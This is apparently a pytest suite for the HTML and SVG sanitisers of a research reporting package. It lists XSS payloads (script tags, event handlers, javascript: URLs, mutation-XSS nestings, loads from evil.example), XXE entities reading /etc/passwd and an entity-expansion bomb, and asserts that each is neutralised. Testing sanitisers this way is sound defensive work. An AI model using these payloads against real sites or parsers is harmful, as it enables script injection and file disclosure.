"""Nothing in a report runs or fetches anything, whatever a notebook displays."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ctresearch.core import DataError
from ctresearch.studies.shown.blocks import markdown
from ctresearch.studies.shown.sanitise import clean_html, clean_svg

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
ACTIVE = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|link|meta|base)|<[^>]*\son\w+\s*=|<[^>]*javascript:", re.IGNORECASE
)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script>unclosed",
        "<img src=x onerror=alert(1)>",
        '<img src="https://evil.example/pixel.gif">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="  java\tscript:alert(1)">x</a>',
        "<iframe src='data:text/html,<script>1</script>'></iframe>",
        "<svg onload=alert(1)><script>1</script></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<form action=//evil.example><input name=q><button>go</button></form>",
        "<style>@import url(//evil.example/x.css)</style>",
        '<p style="background:url(//evil.example)">x</p>',
        '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
        '<p id="x><script>1</script>" title="<img src=x>">y</p>',
        '<a href="#x><script>1</script>">y</a>',
        '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
        '<svg></p><style><g title="</style><img src=x onerror=alert(1)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>",
        "<select><template><script>alert(1)</script></template></select>",
        "<div>" * 900 + "<script>alert(1)</script>",
    ],
)
def test_attacks_come_out_harmless(attack):
    for cleaned in (clean_html(f"<p>before</p>{attack}"), markdown(f"before\n\n{attack}\n")):
        assert "before" in cleaned
        assert not ACTIVE.search(cleaned)
        assert "evil.example" not in cleaned
        assert "svg+xml" not in cleaned


@settings(max_examples=80, deadline=None)
@given(st.text(alphabet="<>\"'=/ abcsriptonx&;:!-[]()\n", max_size=80))
def test_no_text_becomes_active(text):
    assert not ACTIVE.search(clean_html(text))
    assert not ACTIVE.search(markdown(text))


def test_what_a_report_needs_stays():
    kept = (
        '<table><thead><tr><th scope="col">n</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<a href="https://doi.org/10.1111/rssa.12505">source</a>',
        '<p style="margin: .2em 0; border-left: 4px solid #b3261e;"><b style="color: #b3261e;">FAILED</b></p>',
        "<details open><summary>Cite</summary><ul><li>x</li></ul></details>",
        '<img alt="Figure" src="data:image/png;base64,iVBORw0KGgo=">',
    )
    for markup in kept:
        assert clean_html(markup) == markup


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        ("<form>gone</form>x<textarea>gone</textarea>", "x"),
        ("<blink>stays</blink>", "stays"),
        ('<p id=" a b " class="checks">x</p>', '<p id="nb-ab">x</p>'),
        ('<span class="math">x</span><p class="math">x</p>', '<span class="math">x</span><p>x</p>'),
        ('<a href="#top" target="_top">x</a>', '<a href="#nb-top">x</a>'),
        ('<a href="ftp://a.example">x</a><a href="//a.example">y</a>', "<a>x</a><a>y</a>"),
        ('<a href="MAILTO:a@b.example">x</a>', '<a href="MAILTO:a@b.example">x</a>'),
        ('<p title="a<b>c">x</p>', '<p title="abc">x</p>'),
        ('<p style="color: red; COLOR: #fff; color: #abc; margin: 1px -1px">x</p>', '<p style="color: #abc;">x</p>'),
        ('<td colspan="2">x</td>', "x"),
        ('<ol start="3" open><li>x</li></ol>', '<ol start="3"><li>x</li></ol>'),
        ("<p>&lt;b&gt; &amp; <!-- gone -->x</p>", "<p>&lt;b&gt; &amp; x</p>"),
    ],
)
def test_what_is_on_no_list_goes_and_the_rest_stays(markup, kept):
    assert clean_html(markup) == kept


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        '<rect onclick="alert(1)" width="1"/>',
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>1</script></body></foreignObject>',
        '<use xlink:href="https://evil.example/a.svg#x"/>',
        '<image href="https://evil.example/p.png"/>',
        '<a xlink:href="javascript:alert(1)"><rect/></a>',
        '<rect style="fill:url(https://evil.example/x#y)"/>',
        '<rect fill="url( //evil.example/x )"/>',
        "<style>@import url(//evil.example)</style>",
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        '<set attributeName="onmouseover" to="alert(1)"/>',
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
    ],
)
def test_figures_come_out_harmless(attack):
    cleaned = clean_svg(f'<svg {NS}><path d="M0 0"/>{attack}</svg>')
    assert 'd="M0 0"' in cleaned
    assert not ACTIVE.search(cleaned)
    assert "evil.example" not in cleaned
    assert "alert" not in cleaned


@pytest.mark.parametrize(
    "markup",
    [
        "<svg",
        "<html/>",
        (
            '<!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><svg '
            'xmlns="http://www.w3.org/2000/svg">&b;</svg>'
        ),
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    ],
)
def test_what_is_no_plain_figure_is_refused(markup):
    with pytest.raises(DataError, match="SVG figure"):
        clean_svg(markup)


def test_a_figure_of_ours_keeps_its_drawing(tmp_path):
    from ctresearch.core import plot

    ax = plot.trend([2012, 2013], [1.0, 2.0], low=[0.5, 1.5], high=[1.5, 2.5], ylabel="persons")
    plot.save(ax.figure, tmp_path / "f.svg")
    text = (tmp_path / "f.svg").read_text(encoding="utf-8")
    cleaned = clean_svg(text)
    for tag in ("<path", "<use", "<clipPath"):
        assert cleaned.count(tag) == text.count(tag) > 0
    assert 'stroke-linejoin="round"' in cleaned[: cleaned.index(">")]
